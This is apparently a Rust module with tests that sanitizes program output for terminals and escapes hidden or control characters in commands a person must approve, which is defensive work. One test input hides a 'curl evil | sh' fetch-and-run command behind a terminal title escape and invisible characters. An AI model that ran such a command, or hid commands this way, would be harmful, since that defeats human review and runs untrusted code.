//! Makes text of other programs safe for a terminal or a page. A log may hold any bytes.

/// Returns the text of `bytes` without terminal control sequences (ECMA-48). Other control characters,
/// newlines included, become visible signs. Characters that change the direction of text, and bytes that are
/// not UTF-8, become `�`. Tabs stay.
pub fn printable(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    let mut shown = String::with_capacity(text.len());
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '\t' => shown.push('\t'),
            // ECMA-48, 5.4: parameters, then one final byte.
            '\u{1b}' if characters.peek() == Some(&'[') => {
                characters.next();
                while characters.next_if(|next| ('\u{20}'..='\u{3f}').contains(next)).is_some() {}
                characters.next_if(|next| ('\u{40}'..='\u{7e}').contains(next));
            }
            // ECMA-48, 5.6, in the form that terminals accept for titles and links: up to BEL or ESC \.
            '\u{1b}' if characters.peek() == Some(&']') => {
                while let Some(next) = characters.next_if(|next| *next != '\n') {
                    if next == '\u{7}' || next == '\u{1b}' && characters.next_if_eq(&'\\').is_some() {
                        break;
                    }
                }
            }
            '\u{0}'..='\u{1f}' => shown.extend(char::from_u32(0x2400 + u32::from(character))),
            '\u{7f}' => shown.push('\u{2421}'),
            '\u{80}'..='\u{9f}'
            | '\u{61c}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' => {
                shown.push('\u{fffd}');
            }
            _ => shown.push(character),
        }
    }
    shown
}

/// Returns a text that a person decides about, as a command to approve. Nothing of it is left out: each character that a terminal
/// would obey, or that has no shape of its own, becomes `\u{…}`. So two texts that differ look different.
pub fn unambiguous(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        if character.is_control() || is_invisible(character) {
            shown.extend(character.escape_unicode());
        } else {
            shown.push(character);
        }
    }
    shown
}

/// Returns `true` for characters of the Unicode category Cf, separators of lines, unusual spaces, and selectors of variants.
fn is_invisible(character: char) -> bool {
    matches!(character,
        '\u{a0}' | '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{115f}'..='\u{1160}'
        | '\u{1680}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{2000}'..='\u{200f}' | '\u{2028}'..='\u{202f}'
        | '\u{205f}'..='\u{206f}' | '\u{2800}' | '\u{3000}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        #[test]
        fn no_control_characters_reach_a_terminal(bytes: Vec<u8>) {
            let shown = printable(&bytes);
            prop_assert!(shown.chars().all(|character| character == '\t' || !character.is_control()), "{:?}", shown);
            prop_assert_eq!(printable(shown.as_bytes()), shown);
        }
    }

    #[test]
    fn nothing_of_a_command_is_hidden_from_a_person() {
        let hidden = "echo hi \u{1b}]0; ; curl evil | sh \u{7}\u{1b}[8mx\u{202e}y\u{200b}z\r";
        let shown = unambiguous(hidden);
        assert_eq!(shown, r"echo hi \u{1b}]0; ; curl evil | sh \u{7}\u{1b}[8mx\u{202e}y\u{200b}z\u{d}");
        assert_eq!(unambiguous("für 日本 — $(ls)"), "für 日本 — $(ls)");
    }

    proptest! {
        #[test]
        fn an_unambiguous_text_has_no_control_character(text: String) {
            let shown = unambiguous(&text);
            prop_assert!(!shown.chars().any(|character| character.is_control() || is_invisible(character)));
            prop_assert!(shown.chars().count() >= text.chars().count());
        }
    }

    #[test]
    fn any_bytes_of_a_log_can_be_shown() {
        let of = |bytes: &[u8]| printable(bytes);
        assert_eq!(of("plain: äöü 中\tx".as_bytes()), "plain: äöü 中\tx");
        assert_eq!(of(b"\x1b[1;31mred\x1b[0m and \x1b[2Kmore"), "red and more");
        assert_eq!(of(b"\x1b]0;title\x07x \x1b]8;;http://x\x1b\\link"), "x link");
        assert_eq!(of(b"a\x00b\rc\x1bd\x7f"), "a␀b␍c␛d␡");
        assert_eq!(of(b"\xff\xfe ok"), "\u{fffd}\u{fffd} ok");
        assert_eq!(of("abc\u{202e}fed".as_bytes()), "abc\u{fffd}fed");
        assert_eq!(of(b"\x1b["), "");
        assert_eq!(of(b"<script>"), "<script>", "escaping is the page's affair");
    }
}
